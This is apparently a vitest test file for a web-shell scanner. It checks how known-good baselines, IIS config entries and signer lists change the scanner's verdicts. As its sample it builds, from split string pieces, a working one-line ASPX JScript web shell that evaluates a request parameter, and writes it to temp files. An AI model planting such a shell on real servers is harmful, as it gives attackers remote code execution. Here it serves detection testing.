import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { inputOf, isPosternError, type FileJudgement } from '@postern/core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readBaseline } from './baseline.ts';
import { judgePage, type PageJudge } from './page-judge.ts';

const shell = ['<%@ Page Language="Jscript"%><%ev', 'al(Req', 'uest["k"],"un', 'safe")%>'].join('');
const directory = (path: string): string =>
  `<virtualDirectory path="/${path}" physicalPath="C:\\ProgramData\\${path}" />`;
const config = (...paths: readonly string[]): string =>
  `<configuration><sites><site name="S"><application path="/">${paths.map(directory).join('')}</application></site></sites></configuration>`;
const server = 'C:\\Windows\\System32\\inetsrv\\config\\applicationHost.config';

let base = '';
beforeAll(() => {
  base = mkdtempSync(join(tmpdir(), 'postern-baseline-'));
  mkdirSync(join(base, 'inetsrv'));
  writeFileSync(join(base, 'own-tool.aspx'), shell);
  writeFileSync(join(base, 'inetsrv', 'applicationHost.config'), config('tool'));
});
afterAll(() => rmSync(base, { recursive: true, force: true }));

async function judge(text: string, originalPath: string, folders: readonly string[]): Promise<FileJudgement> {
  const asked: string[] = [];
  const yara = {
    scan: (sha256: string) => ({ hits: [], rules: (asked.push(sha256), ['Asked']), issues: [] }),
  };
  const judging: PageJudge = { yara: () => yara, baseline: readBaseline(folders) };
  const bytes = new TextEncoder().encode(text);
  const sha256 = createHash('sha256').update(bytes).digest('hex');
  return judgePage(judging, { input: inputOf(bytes), entry: { originalPath }, sha256 });
}

describe('a clean server of the user', () => {
  it('makes its content known, by any name; YARA is not asked', async () => {
    const found = await judge(shell, 'C:\\inetpub\\wwwroot\\other.aspx', [base]);
    expect(found).toMatchObject({
      verdict: 'benign',
      yara: [],
      knownGood: 'the same content lies in the baseline',
    });
    expect(await judge(`${shell} `, 'C:\\inetpub\\wwwroot\\own-tool.aspx', [base])).toMatchObject({
      verdict: 'remote-control',
      yara: ['Asked'],
    });
    expect((await judge(shell, 'C:\\inetpub\\wwwroot\\own-tool.aspx', [])).verdict).toBe('remote-control');
  });

  it('makes the entries of its configurations known, one by one', async () => {
    const both = await judge(config('tool', 'rogue'), server, [base]);
    expect(both.verdict).toBe('suspicious');
    expect(both.configured?.map(({ url }) => url)).toEqual(['/rogue']);
    expect(both.traits).toHaveLength(1);
    expect(await judge(`${config('tool')}\n`, server, [base])).toMatchObject({
      verdict: 'benign',
      configured: [],
    });
  });

  it('a list says of contents and signers that they are known, and why', async () => {
    const list = join(base, '..', `${base.split(/[\\/]/).at(-1)}.csv`);
    const sha256 = createHash('sha256').update(shell).digest('hex');
    writeFileSync(
      list,
      `# ours\r\n\r\n${sha256.toUpperCase()}, the help desk's own, ticket 12\ntoken:31BF3856AD364E35,mail filter of Vendor\n`,
    );
    try {
      expect(await judge(shell, 'C:\\inetpub\\wwwroot\\a.aspx', [list])).toMatchObject({
        verdict: 'benign',
        knownGood: "the help desk's own, ticket 12",
        issues: [{ code: 'POSTERN_SCAN_KNOWN_CONTENT', found: "the help desk's own, ticket 12" }],
      });
      const module = (token: string): string =>
        `<configuration><system.webServer><modules><add name="m" type="V.M, V, PublicKeyToken=${token}" /></modules></system.webServer></configuration>`;
      expect(await judge(module('31bf3856ad364e35'), server, [list])).toMatchObject({
        configured: [],
        issues: [{ code: 'POSTERN_SCAN_KNOWN_SIGNER', found: 'mail filter of Vendor' }],
      });
      expect((await judge(module('31bf3856ad364e36'), server, [list])).configured).toHaveLength(1);
    } finally {
      rmSync(list);
    }
  });

  it.each([' ,no hash', `${'a'.repeat(64)},`, `${'a'.repeat(63)},short`, 'token:1,short'])(
    'a list with the line "%s" is the mistake of the user',
    (line) => {
      const list = join(base, 'list.csv');
      writeFileSync(list, `${line}\n`);
      try {
        expect(() => readBaseline([list])).toThrow(expect.toSatisfy(isPosternError));
      } finally {
        rmSync(list);
      }
    },
  );

  it('a folder that is none is the mistake of the user', () => {
    expect(() => readBaseline([join(base, 'none')])).toThrow(expect.toSatisfy(isPosternError));
  });
});
